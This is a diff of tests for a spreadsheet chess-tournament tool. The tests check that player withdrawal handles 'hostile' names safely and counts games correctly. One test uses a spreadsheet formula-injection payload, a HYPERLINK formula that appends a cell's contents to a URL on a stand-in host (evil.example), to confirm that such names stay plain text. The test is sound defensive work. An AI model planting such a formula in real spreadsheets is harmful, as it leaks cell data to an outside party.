@@ -99,6 +99,33 @@ describe('withdrawTorresPlayer', () => {
   });
 });
 
+describe('withdrawTorresPlayer on a hostile sheet', () => {
+  it('writes only the seats it hands over: a name like a formula or with a leading apostrophe stays text', () => {
+    const gas = installFakeGas();
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A2,"x")', '=1+1', "'Tis", '007'];
+    const players = [...hostile, ...names('B', 6)];
+    createTorresGroups({ title: 'S', groups: [names('A', 10), players], seed: 'h' });
+    const sheet = gas.book.sheet('S L2');
+    const before = scheduledGames(sheet, 15);
+    expect(before.flat().filter((n) => hostile.includes(n))).toHaveLength(4 * 6);
+    withdrawTorresPlayer({ sheet: 'S L2', player: 'B1' });
+    const after = scheduledGames(sheet, 15);
+    expect(after).toEqual(before.map((g) => g.map((p) => (p === 'B1' ? 'forfait' : p))));
+    const block = sheet.getRange(`A${GROUP.firstGameRow}:I${GROUP.firstGameRow + 14}`).getFormulas().flat();
+    expect(block.filter((f) => f !== '')).toEqual([]);
+  });
+
+  it('takes the number of games from the sheet\'s record, not from the game numbers a TD typed over', () => {
+    const { l2 } = season();
+    const games = scheduledGames(l2, 15);
+    l2.getRange(GROUP.firstGameRow + 4, GROUP.gameColumn).setValue('postponed');
+    const result = withdrawTorresPlayer({ sheet: 'S L2 G1', player: 'B4' });
+    const scheduled = games.filter((g) => g.includes('B4')).length;
+    expect(result).toEqual({ replacedBy: 'forfait', games: scheduled, played: 0 });
+    expect(scheduledGames(l2, 15).flat()).not.toContain('B4');
+  });
+});
+
 describe('createTorresChampionship', () => {
   const players = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `p${i + 1}`, elo: 1900 - i }));
 
